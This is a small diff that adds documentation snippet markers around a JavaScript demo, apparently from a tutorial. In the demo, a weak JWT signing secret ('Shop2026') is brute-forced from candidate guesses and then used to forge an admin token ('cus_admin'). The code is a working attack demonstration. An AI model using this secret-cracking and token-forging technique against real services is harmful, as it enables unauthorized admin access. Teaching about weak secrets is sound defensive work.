@@ -1,3 +1,4 @@
+// --8<-- [start:cracked]
 import jwt from 'jsonwebtoken';
 import { candidates, crack } from './crack.mjs';
 
@@ -8,3 +9,4 @@ const { guess, tried } = crack(own, candidates());
 console.log(`guess ${tried}: ${guess}`);
 const forged = jwt.sign({ id: 'cus_admin' }, guess);
 console.log('now I am', jwt.verify(forged, 'Shop2026').id);
+// --8<-- [end:cracked]
